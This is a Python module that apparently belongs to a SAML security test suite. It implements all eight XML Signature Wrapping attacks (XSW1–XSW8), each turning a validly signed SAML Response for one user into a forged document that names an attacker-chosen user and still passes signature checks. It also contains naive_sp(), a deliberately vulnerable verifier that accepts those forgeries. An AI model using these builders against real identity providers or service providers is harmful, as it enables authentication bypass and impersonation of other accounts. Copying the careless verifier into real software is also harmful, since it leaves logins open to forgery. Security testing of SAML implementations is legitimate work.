"""XML Signature Wrapping (XSW) variants XSW1-XSW8 of a signed SAML Response.

The eight variants are those of Somorovsky et al., "On Breaking SAML: Be
Whoever You Want to Be" (USENIX Security 2012), as the SAML Raider tool
(CompassSecurity/SAMLRaider, helpers/XSWHelpers.java) builds them: each
takes a Response validly signed by the IdP for user A and moves the signed
element out of the way, so that the signature still verifies over the
original while an *evil* copy naming user B (NameID and attribute values
replaced) sits where a careless service provider reads the subject from.

- XSW1 and XSW2 wrap a signed *Response* (the input must have a Response
  signature; its Assertion need not be signed).
- XSW3 to XSW8 wrap a signed *Assertion* (the input must have an Assertion
  signature and no Response signature, since the Response is changed).

Each builder takes the signed XML (text or bytes) and returns the attack
document as bytes. `naive_sp()` is a deliberately careless verifier used
only to prove that each variant is live: it checks "a" signature the way
vulnerable SPs did and reads the subject from the first assertion, and so
signs in B for every variant (see test_federation_saml.py's self-checks).
"""

from __future__ import annotations

import base64
import copy
import hashlib

from cryptography import x509
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import padding
from lxml import etree

SAMLP = "urn:oasis:names:tc:SAML:2.0:protocol"
SAML = "urn:oasis:names:tc:SAML:2.0:assertion"
DS = "http://www.w3.org/2000/09/xmldsig#"
NS = {"samlp": SAMLP, "saml": SAML, "ds": DS}
EVIL_RESPONSE_ID = "_evil_response_ID"
EVIL_ASSERTION_ID = "_evil_assertion_ID"


def _parse(xml) -> etree._Element:
    if isinstance(xml, str):
        xml = xml.encode("utf-8")
    parser = etree.XMLParser(resolve_entities=False, no_network=True, remove_blank_text=False)
    return etree.fromstring(xml, parser)


def _out(root: etree._Element) -> bytes:
    return etree.tostring(root, xml_declaration=True, encoding="UTF-8")


def _q(ns: str, tag: str) -> str:
    return f"{{{ns}}}{tag}"


def _first(root, path: str):
    found = root.find(path, NS)
    if found is None:
        raise ValueError(f"no {path} in the document")
    return found


def _response(root):
    if root.tag != _q(SAMLP, "Response"):
        raise ValueError(f"the root is {root.tag}, not samlp:Response")
    return root


def _assertion(root):
    return _first(root, "saml:Assertion")


def _child_signature(el):
    sig = el.find("ds:Signature", NS)
    if sig is None:
        raise ValueError(f"{etree.QName(el).localname} {el.get('ID')} has no enveloped ds:Signature")
    return sig


def make_evil(assertion: etree._Element, name_id: str, attributes: dict | None = None) -> None:
    """Rewrite an assertion (in place) for the attacker: NameID := name_id and,
    for each attribute name given, its values := the given value(s)."""
    nid = assertion.find("saml:Subject/saml:NameID", NS)
    if nid is None:
        raise ValueError("assertion without Subject/NameID")
    nid.text = name_id
    for name, value in (attributes or {}).items():
        values = value if isinstance(value, list) else [value]
        for attr in assertion.findall("saml:AttributeStatement/saml:Attribute", NS):
            if attr.get("Name") == name:
                avs = attr.findall("saml:AttributeValue", NS)
                for av, v in zip(avs, values):
                    av.text = str(v)


def _remove_signature(el) -> None:
    sig = el.find("ds:Signature", NS)
    if sig is not None:
        el.remove(sig)


# ---------------------------------------------------------------- Response signature ----

def xsw1(signed, name_id: str, attributes: dict | None = None) -> bytes:
    """XSW1 (Response signature, wrapped inside the Signature).

    The document's Response becomes the evil one: its ID is changed to
    `_evil_response_ID` and its Assertion is rewritten for B; an unsigned
    copy of the original Response (its Signature removed, its ID the signed
    one) is appended as the last child of the Response's ds:Signature. The
    Reference `#<original ID>` now resolves to that copy, whose digest is
    unchanged; the root Response, which an SP reads, is B's."""
    root = _response(_parse(signed))
    original = copy.deepcopy(root)
    _remove_signature(original)
    sig = _child_signature(root)
    make_evil(_assertion(root), name_id, attributes)
    sig.append(original)
    root.set("ID", EVIL_RESPONSE_ID)
    return _out(root)


def xsw2(signed, name_id: str, attributes: dict | None = None) -> bytes:
    """XSW2 (Response signature, detached).

    As XSW1, but the unsigned copy of the original Response is inserted as
    a sibling just before the Response's ds:Signature (a detached signature
    over a sibling) instead of inside it. The root Response (ID
    `_evil_response_ID`) carries B's assertion."""
    root = _response(_parse(signed))
    original = copy.deepcopy(root)
    _remove_signature(original)
    sig = _child_signature(root)
    make_evil(_assertion(root), name_id, attributes)
    sig.addprevious(original)
    root.set("ID", EVIL_RESPONSE_ID)
    return _out(root)


# ---------------------------------------------------------------- Assertion signature ----

def xsw3(signed, name_id: str, attributes: dict | None = None) -> bytes:
    """XSW3 (Assertion signature, evil assertion before it).

    An evil copy of the signed Assertion (ID `_evil_assertion_ID`, its
    Signature removed, rewritten for B) is inserted into the Response just
    before the original, untouched signed Assertion. The signature verifies
    over the original; an SP reading the first Assertion reads B's."""
    root = _response(_parse(signed))
    assertion = _assertion(root)
    evil = copy.deepcopy(assertion)
    _remove_signature(evil)
    evil.set("ID", EVIL_ASSERTION_ID)
    make_evil(evil, name_id, attributes)
    assertion.addprevious(evil)
    return _out(root)


def xsw4(signed, name_id: str, attributes: dict | None = None) -> bytes:
    """XSW4 (Assertion signature, original wrapped inside the evil assertion).

    An evil copy of the signed Assertion (ID `_evil_assertion_ID`, no
    Signature, rewritten for B) is appended to the Response, and the
    original signed Assertion is moved into it as its last child. The
    Response's only direct Assertion child is then B's; the signed one is a
    grandchild that still verifies."""
    root = _response(_parse(signed))
    assertion = _assertion(root)
    evil = copy.deepcopy(assertion)
    _remove_signature(evil)
    evil.set("ID", EVIL_ASSERTION_ID)
    make_evil(evil, name_id, attributes)
    root.append(evil)
    evil.append(assertion)          # moves it (lxml re-parents)
    return _out(root)


def xsw5(signed, name_id: str, attributes: dict | None = None) -> bytes:
    """XSW5 (Assertion signature kept in the evil assertion, original appended).

    The Assertion in place is rewritten for B and its ID changed to
    `_evil_assertion_ID`, keeping its (now stale) ds:Signature; an unsigned
    copy of the original Assertion, with the signed ID, is appended as the
    last child of the Response. The Reference resolves to that copy and
    verifies; the Assertion in the usual place, which still looks signed,
    is B's."""
    root = _response(_parse(signed))
    evil = _assertion(root)
    original = copy.deepcopy(evil)
    _remove_signature(original)
    make_evil(evil, name_id, attributes)
    root.append(original)
    evil.set("ID", EVIL_ASSERTION_ID)
    return _out(root)


def xsw6(signed, name_id: str, attributes: dict | None = None) -> bytes:
    """XSW6 (Assertion signature kept in the evil assertion, original inside it).

    As XSW5, but the unsigned copy of the original Assertion goes inside the
    evil assertion's ds:Signature (appended as its last child) instead of at
    the end of the Response: the evil assertion (ID `_evil_assertion_ID`,
    B's subject) carries a Signature whose Reference resolves to the copy
    nested in that very Signature."""
    root = _response(_parse(signed))
    evil = _assertion(root)
    signature = _child_signature(evil)
    original = copy.deepcopy(evil)
    _remove_signature(original)
    make_evil(evil, name_id, attributes)
    signature.append(original)
    evil.set("ID", EVIL_ASSERTION_ID)
    return _out(root)


def xsw7(signed, name_id: str, attributes: dict | None = None) -> bytes:
    """XSW7 (Assertion signature, evil assertion in an Extensions element).

    An unsigned evil copy of the Assertion (its Signature removed, rewritten
    for B, ID left equal to the signed one, as SAML Raider does) is put in a
    samlp:Extensions element, whose schema admits any content. SAML Raider
    inserts a namespace-less <Extensions> just before the Assertion; here it
    is samlp:Extensions at its schema-valid place (after Issuer/Signature,
    before Status), so a schema-validating SP does not drop it early. The
    original signed Assertion is left in place; an SP that resolves the ID
    to the signed Assertion but reads the first Assertion in document order
    reads B's."""
    root = _response(_parse(signed))
    assertion = _assertion(root)
    evil = copy.deepcopy(assertion)
    _remove_signature(evil)
    make_evil(evil, name_id, attributes)
    extensions = etree.Element(_q(SAMLP, "Extensions"), nsmap={"samlp": SAMLP})
    extensions.append(evil)
    status = root.find("samlp:Status", NS)
    anchor = status if status is not None else assertion
    anchor.addprevious(extensions)
    return _out(root)


def xsw8(signed, name_id: str, attributes: dict | None = None) -> bytes:
    """XSW8 (Assertion signature, original in a ds:Object of the evil one).

    The Assertion in place is rewritten for B and keeps its ID and its (now
    stale) ds:Signature; an unsigned copy of the original Assertion, same ID,
    is wrapped in a ds:Object (whose schema admits any content) appended to
    that Signature. SAML Raider names the wrapper a namespace-less
    <Object>; here it is ds:Object. An SP whose ID lookup finds the copy
    inside the Object verifies it and reads the evil, outer Assertion."""
    root = _response(_parse(signed))
    evil = _assertion(root)
    signature = _child_signature(evil)
    original = copy.deepcopy(evil)
    _remove_signature(original)
    make_evil(evil, name_id, attributes)
    obj = etree.SubElement(signature, _q(DS, "Object"))
    obj.append(original)
    return _out(root)


VARIANTS = {"XSW1": xsw1, "XSW2": xsw2, "XSW3": xsw3, "XSW4": xsw4,
            "XSW5": xsw5, "XSW6": xsw6, "XSW7": xsw7, "XSW8": xsw8}
RESPONSE_VARIANTS = ("XSW1", "XSW2")        # need a signed Response
ASSERTION_VARIANTS = ("XSW3", "XSW4", "XSW5", "XSW6", "XSW7", "XSW8")   # need a signed Assertion only


def wrap(variant: str, signed, name_id: str, attributes: dict | None = None) -> bytes:
    return VARIANTS[variant](signed, name_id, attributes)


# ---------------------------------------------------------------- a careless SP (self-check only) ----

_DIGESTS = {"http://www.w3.org/2001/04/xmlenc#sha256": hashlib.sha256,
            "http://www.w3.org/2000/09/xmldsig#sha1": hashlib.sha1}
_SIGS = {"http://www.w3.org/2001/04/xmldsig-more#rsa-sha256": hashes.SHA256(),
         "http://www.w3.org/2000/09/xmldsig#rsa-sha1": hashes.SHA1()}


def _exc_c14n(el) -> bytes:
    return etree.tostring(el, method="c14n", exclusive=True, with_comments=False)


def _check_signature(root, sig, cert: x509.Certificate, pick: str) -> None:
    """Verify one ds:Signature the careless way: the Reference resolves to the
    first (pick="first") or last (pick="last") element with that ID anywhere;
    "enveloped" removes only that element's own ds:Signature children."""
    ref = sig.find("ds:SignedInfo/ds:Reference", NS)
    uri = ref.get("URI", "")
    if not uri.startswith("#"):
        raise ValueError("reference is not same-document")
    hits = root.xpath("//*[@ID=$id]", id=uri[1:])
    if not hits:
        raise ValueError(f"no element with ID {uri[1:]}")
    target = copy.deepcopy(hits[0] if pick == "first" else hits[-1])
    for child in target.findall("ds:Signature", NS):
        target.remove(child)
    digest = _DIGESTS[ref.find("ds:DigestMethod", NS).get("Algorithm")](_exc_c14n(target)).digest()
    if base64.b64encode(digest).decode() != "".join(ref.findtext("ds:DigestValue", namespaces=NS).split()):
        raise ValueError("digest mismatch")
    signed_info = sig.find("ds:SignedInfo", NS)
    alg = signed_info.find("ds:SignatureMethod", NS).get("Algorithm")
    value = base64.b64decode("".join(sig.findtext("ds:SignatureValue", namespaces=NS).split()))
    cert.public_key().verify(value, _exc_c14n(signed_info), padding.PKCS1v15(), _SIGS[alg])


def naive_sp(xml, cert_pem: str, pick: str = "last", read: str = "document") -> str:
    """A service provider as vulnerable ones were written: accept the response
    if *some* ds:Signature in it verifies (each tried, lookup `pick`), then
    read the subject from the first Assertion (read="document": first in
    document order; read="child": the Response's first Assertion child).
    Returns that NameID; raises when no signature verifies."""
    root = _parse(xml)
    cert = x509.load_pem_x509_certificate(cert_pem.encode())
    errors = []
    for sig in root.iter(_q(DS, "Signature")):
        try:
            _check_signature(root, sig, cert, pick)
            break
        except Exception as exc:       # try the next signature
            errors.append(repr(exc))
    else:
        raise ValueError(f"no signature verifies: {errors}")
    if read == "child":
        assertion = root.find("saml:Assertion", NS)
    else:
        assertion = next(root.iter(_q(SAML, "Assertion")), None)
    if assertion is None:
        raise ValueError("no assertion")
    return assertion.findtext("saml:Subject/saml:NameID", namespaces=NS)


NAIVE_SP_KINDS = [(pick, read) for pick in ("first", "last") for read in ("document", "child")]
